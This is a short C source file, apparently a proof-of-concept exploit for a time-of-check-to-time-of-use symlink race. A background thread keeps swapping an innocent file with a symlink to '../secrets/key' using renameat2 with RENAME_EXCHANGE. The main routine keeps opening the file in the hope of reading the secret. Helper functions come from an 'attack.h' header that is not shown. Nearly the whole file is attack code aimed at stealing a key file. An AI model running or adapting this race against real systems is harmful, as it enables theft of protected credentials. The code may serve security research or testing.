/* A second thread exchanges an innocent file and a symbolic link to the secret. */
#include "attack.h"
static void *swap(void *unused) {
    for (;;) syscall(SYS_renameat2, AT_FDCWD, "src/a", AT_FDCWD, "src/b", 2u /* RENAME_EXCHANGE */);
    return unused;
}
static int try_once(void) {
    return stolen(open("src/a", O_RDONLY));
}
int main(int argc, char **argv) {
    (void)argc;
    close(open("src/a", O_CREAT | O_WRONLY, 0644));
    if (symlink("../secrets/key", "src/b")) return 1;
    return race(argv, swap, try_once);
}
